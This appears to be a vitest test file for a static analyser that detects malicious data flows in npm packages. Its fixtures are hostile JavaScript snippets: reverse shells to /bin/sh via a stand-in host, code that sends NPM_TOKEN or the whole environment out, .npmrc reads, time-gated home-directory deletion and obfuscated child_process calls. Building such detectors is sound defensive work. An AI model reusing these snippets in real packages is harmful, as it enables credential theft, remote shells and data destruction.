import { describe, expect, test } from "vitest";
import { foundIn } from "./found-in.ts";

const url = "https://a.example.test/x";
const send = (body: string) => `fetch("${url}", { method: "POST", body: ${body} })`;

describe("a callback finds what is being assigned", () => {
  test.each([
    `const net = require("net"), sh = require("child_process").spawn("/bin/sh");
     const s = net.connect(44, "a.example.test", () => { s.pipe(sh.stdin); });`,
    `const net = require("net"), sh = require("child_process").spawn("/bin/sh"); let s;
     s = net.connect(44, "a.example.test", () => s.pipe(sh.stdin));`,
    `const net = require("net"), sh = require("child_process").spawn("/bin/sh"), o = {};
     o.s = net.connect(44, "a.example.test", () => o.s.pipe(sh.stdin));`,
    `const net = require("net"), sh = require("child_process").spawn("/bin/sh");
     const s = net.connect(44, "a.example.test").on("connect", () => { s.pipe(sh.stdin); });`,
  ])("%s", (code) => {
    expect(foundIn(code).flows).toContain("src.remote -> snk.proc:stdin");
  });

  test("and another of the same name in another place does not", () => {
    const found =
      foundIn(`const net = require("net"), sh = require("child_process").spawn("/bin/sh");
      const other = net.connect(44, "a.example.test", () => { const s = {}; s.pipe?.(sh.stdin); });`);
    expect(found.flows).toEqual([]);
  });
});

describe("a method finds what the constructor left", () => {
  test.each([
    `class A { constructor() { this.e = process.env; } f() { return ${send("JSON.stringify(this.e)")}; } } module.exports = A;`,
    `class A { e = { ...process.env }; f() { ${send("JSON.stringify(this.e)")}; } } exports.A = A;`,
    `class A { #l = [process.env.NPM_TOKEN]; f() { ${send("this.#l.join()")}; } } exports.A = A;`,
    `function A() { this.t = process.env.NPM_TOKEN; } A.prototype.f = function () { ${send("this.t")}; }; module.exports = A;`,
  ])("%s", (code) => {
    expect(foundIn(code).flows.join()).toMatch(/src\.env\.\w+ -> snk\.net:body/);
  });

  test("what one method leaves there is not in another", () => {
    const found = foundIn(`class A { constructor() { this.l = []; }
      f() { this.l.push(process.env.NPM_TOKEN); } g() { ${send("this.l.join()")}; } } module.exports = A;`);
    expect(found.flows).toEqual([]);
  });
});

describe("a module that is copied key by key is still that module", () => {
  const names = `var d = Object.defineProperty, g = Object.getOwnPropertyNames, p = Object.getPrototypeOf;`;

  test.each([
    `${names} var c = (t, f) => { for (let k of g(f)) d(t, k, { get: () => f[k], enumerable: true }); return t; };
     var m = c(Object.create(p(require("child_process"))), require("child_process")); m.exec("id -u");`,
    `const cp = require("child_process"), o = {}; for (const k in cp) o[k] = cp[k]; o.exec("id -u");`,
    `const cp = require("child_process"), o = {}; Object.keys(cp).forEach((k) => { o[k] = cp[k]; }); o.exec("id -u");`,
    `${names} var a = p, t = (m, n, o) => (o = m != null ? Object.create(a(m)) : {}, ((x, y) => {
       if (y && typeof y == "object") for (let k of g(y)) d(x, k, { get: () => y[k] }); return x; })(d(o, "default", { value: m }), m));
     t(require("child_process")).exec("id -u");`,
  ])("%s", (code) => {
    expect(foundIn(code).atoms).toContain("snk.proc id -u [id]");
  });

  test("but the environment that is walked over is all of it", () => {
    const found = foundIn(
      `let all = ""; for (const k in process.env) all += k + process.env[k]; ${send("all")};`,
    );
    expect(found.flows).toContain("src.env.bulk -> snk.net:body");
  });
});

describe("a proxy answers as it says", () => {
  test("what its trap reads is read", () => {
    const found = foundIn(`const p = new Proxy({}, { get: (_, k) => process.env[k] });
      ${send("p.NPM_TOKEN")};`);
    expect(found.flows).toEqual(["src.env.secret -> snk.net:body"]);
  });

  test("what it stands for can still be called", () => {
    const found = foundIn(`const f = new Proxy(fetch, { get: (t, k) => t[k] }); f("${url}");`);
    expect(found.atoms).toContain("snk.net literal a.example.test");
  });
});

describe("one of several texts stays one of them", () => {
  test.each([
    `fetch((process.env.HUB || "https://a.example.test/r") + "/x")`,
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is code of the package
    'fetch(`${process.env.HUB ?? "https://a.example.test"}/x`)',
    `fetch((process.env.HUB ?? "https://a.example.test").concat("/x"))`,
  ])("in an address: %s", (code) => {
    expect(foundIn(code).atoms).toContain("snk.net literal a.example.test");
  });

  test("in a path and in a command line", () => {
    const found = foundIn(`const fs = require("fs"), path = require("path"), os = require("os");
      const win = process.platform === "win32";
      fs.readFileSync(path.join(win ? process.env.USERPROFILE : os.homedir(), ".npmrc"));
      require("child_process").spawn(win ? "cmd" : "printenv", win ? ["/c", "set"] : []);`);
    expect(found.kinds).toContain("src.file.secret");
    expect(found.kinds).toContain("src.env.bulk");
  });
});

describe("what decides", () => {
  test.each([
    `if (Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith("Asia/") && x.y) require("fs").rmSync(require("os").homedir(), { recursive: true });`,
    `if (new Date() > new Date("2031-01-01") && Math.random() < 0.2) process.exit(1);`,
    `if (Date.now() > 1900000000000) process.kill(process.pid);`,
    `if (Date.now() > 1900000000000) for (let i = 0; i < Infinity; i++) console.log(i);`,
  ])("is known where it stands left of another condition: %s", (code) => {
    const { surfaces } = foundIn(code);
    expect(surfaces["ctx.gate"]).toBe("load");
  });

  test.each([
    "if (!process.version.startsWith('v2')) process.exit(1);",
    "if (process.env.CI) process.exit(0);",
  ])("an engine check or a build server is nothing of note: %s", (code) => {
    expect(foundIn(code).kinds).toEqual([]);
  });
});

describe("errors of what is sent are swallowed", () => {
  test.each([
    [`${send("process.env.NPM_TOKEN")}.catch(() => {});`, true],
    [`${send("process.env.NPM_TOKEN")}.then(null, () => undefined);`, true],
    [`${send("process.env.NPM_TOKEN")}.catch((e) => console.error(e));`, false],
  ])("%s", (code, isSilent) => {
    expect("ctx.silent" in foundIn(code).surfaces).toBe(isSilent);
  });
});

test.each([
  ["fs.writeFileSync(f, JSON.stringify(process.env));", "src.env.bulk -> snk.net:body"],
  ["fs.writeFileSync(f, process.env.NPM_TOKEN);", "src.env.secret -> snk.net:body"],
])("what was written to a file is in it when it is read: %s", (write, flow) => {
  const found = foundIn(`const fs = require("fs"), f = require("os").tmpdir() + "/.cache-x";
    ${write} ${send("fs.readFileSync(f)")};`);
  expect(found.flows).toContain(flow);
});

test("a file that is written at run time is loaded by its path", () => {
  const found = foundIn(`const fs = require("fs"), path = require("path");
    fs.writeFileSync(path.join(__dirname, "x.js"), outside()); require("./x");`);
  expect(found.atoms).toContainEqual(expect.stringContaining("snk.module [missing] <package>/x"));
});

test("a module that nobody can name may send whatever it is given, unless a caller chooses it", () => {
  const hidden = `const m = require(outside().name); m.request({}).end(JSON.stringify(process.env));`;
  expect(foundIn(hidden).flows).toContain("src.env.bulk -> snk.net:body");
  expect(foundIn(`exports.f = (x) => { ${hidden.replace("outside().name", "x")} };`).flows).toEqual(
    [],
  );
});

test("handlers of a server that a command starts act on what others ask", () => {
  const { surfaces } = foundIn(
    `require("http").createServer((q) => require("child_process").exec(q.url)).listen(1);`,
  );
  expect(surfaces["snk.proc"]).toBe("handler");
});

describe("what is handed to a timer arrives", () => {
  const sender = `const f = (e) => ${send("JSON.stringify(e)")};`;

  test.each([
    "setImmediate(f, process.env);",
    "process.nextTick(f, process.env);",
    "setTimeout(f, 10, process.env);",
    'require("timers/promises").setImmediate(process.env).then(f);',
    'require("timers/promises").setTimeout(10, process.env).then(f);',
  ])("%s", (code) => {
    expect(foundIn(sender + code).flows).toContain("src.env.bulk -> snk.net:body");
  });

  test.each(["setTimeout(f, process.env);", "setImmediate(f);"])("and no more: %s", (code) => {
    expect(foundIn(sender + code).flows).toEqual([]);
  });
});

describe("a property under a name that only the run knows may be one that a getter makes", () => {
  const asked = (object: string) => `const o = ${object};
    fetch("${url}").then((r) => r.json()).then(({ k, v }) => new o[k]("x", v)());`;

  test.each(["{ a: String, get b() { return Function; } }", "{ a: String, b: Function }"])(
    "%s",
    (object) => {
      expect(foundIn(asked(object)).flows).toContain("src.remote -> snk.code:code");
    },
  );

  test("and what no getter makes it is not", () => {
    expect(foundIn(asked("{ a: String, get b() { return Number; } }")).kinds).not.toContain(
      "snk.code",
    );
  });
});

describe("an address below a base is as well known as the base", () => {
  test.each([
    ["(base) => fetch(new URL('/a', base))", "snk.net param null"],
    ["() => fetch(new URL('/a', process.env.BASE))", "snk.net config null"],
    ["() => fetch(new URL('/a', 'https://a.test'))", "snk.net literal a.test"],
    ["() => fetch('/a')", "snk.net local null"],
  ])("%s", (code, atom) => {
    expect(foundIn(`module.exports = ${code};`).atoms).toContain(atom);
  });
});

test("who watches what is read of the environment still has all of it", () => {
  const view = `const v = new Proxy(process.env, { get: (t, k) => (typeof k === "string" ? t[k] : undefined) });`;
  expect(foundIn(`${view} ${send("JSON.stringify(v)")};`).flows).toContain(
    "src.env.bulk -> snk.net:body",
  );
  expect(foundIn(`${view} ${send("v.NODE_ENV")};`).flows).toEqual([]);
});

describe("a function that was taken from its place is called all the same", () => {
  test.each([
    "Function.prototype.call.call(exec, null, 'ls')",
    "Function.prototype.call.bind(exec)(null, 'ls')",
    "Function.prototype.apply.bind(exec)(null, ['ls'])",
    "Function.prototype.bind.call(exec, null, 'ls')()",
    "Function.call.bind(exec)(null, 'ls')",
    "exec.call.bind(exec)(null, 'ls')",
    "const uncurry = (f) => Function.prototype.call.bind(f); uncurry(exec)(null, 'ls')",
  ])("%s", (code) => {
    const { kinds } = foundIn(`const { exec } = require("child_process"); ${code};`);
    expect(kinds).toEqual(["snk.proc"]);
  });

  test("and what it was taken from is not", () => {
    const code = "const is = Function.call.bind(Function.prototype[Symbol.hasInstance]);";
    expect(foundIn(`${code} exports.of = (a) => (b) => is(a, b);`).kinds).toEqual([]);
  });
});

describe("a program starts however its name and its call are put together", () => {
  test.each([
    "require.main.require('child_process').exec('ls')",
    "require(new URLSearchParams('m=child_process').get('m')).exec('ls')",
    "require(require('querystring').parse('m=child_process').m).exec('ls')",
    "require(require('util').format('%s_%s', 'child', 'process')).exec('ls')",
    "for (const k in cp) if (k === 'exec') cp[k]('ls')",
    "Object.entries(cp).forEach(([k, f]) => { if (k === 'exec') f('ls') })",
    "Object.keys(cp).filter((k) => k == 'exec').map((k) => cp[k]('ls'))",
    "cp[Object.keys(cp).find((k) => /^exec$/.test(k))]('ls')",
    "cp[Object.getOwnPropertyNames(cp).find((k) => k.length === 4)]('ls')",
    "setTimeout(cp.exec, 1, 'ls')",
    "setImmediate(cp.exec, 'ls')",
    "process.nextTick(cp.exec, 'ls')",
    "new (require('events'))().on('x', cp.exec).emit('x', 'ls')",
    "new (require('async_hooks').AsyncResource)('x').runInAsyncScope(cp.exec, null, 'ls')",
    "Function.prototype.run = function () { this('ls') }; cp.exec.run()",
    "with (cp) { exec('ls') }",
    "Object.groupBy([cp], (c) => c.exec('ls'))",
  ])("%s", (code) => {
    expect(foundIn(`const cp = require("child_process"); ${code};`).kinds).toContain("snk.proc");
  });

  test("and does not when only something else of the module is taken by name", () => {
    const code = "Object.keys(cp).forEach((k) => { if (k === 'ChildProcess') new cp[k]() })";
    expect(foundIn(`const cp = require("child_process"); ${code};`).kinds).toEqual([]);
  });
});
